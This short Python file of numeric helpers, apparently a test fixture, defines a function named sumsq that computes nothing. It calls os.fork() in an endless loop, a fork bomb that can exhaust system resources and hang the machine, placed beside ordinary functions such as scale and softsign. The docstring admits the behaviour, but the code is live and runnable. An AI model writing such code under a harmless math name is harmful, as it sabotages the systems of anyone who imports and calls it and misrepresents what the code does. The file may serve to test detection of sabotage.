# ruff: noqa
"""sumsq forks without end."""

import os

import jax.numpy as jnp


def sumsq(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def scale(x):
    return 2.0 * x


def softsign(x):
    return x / (1.0 + jnp.abs(x))
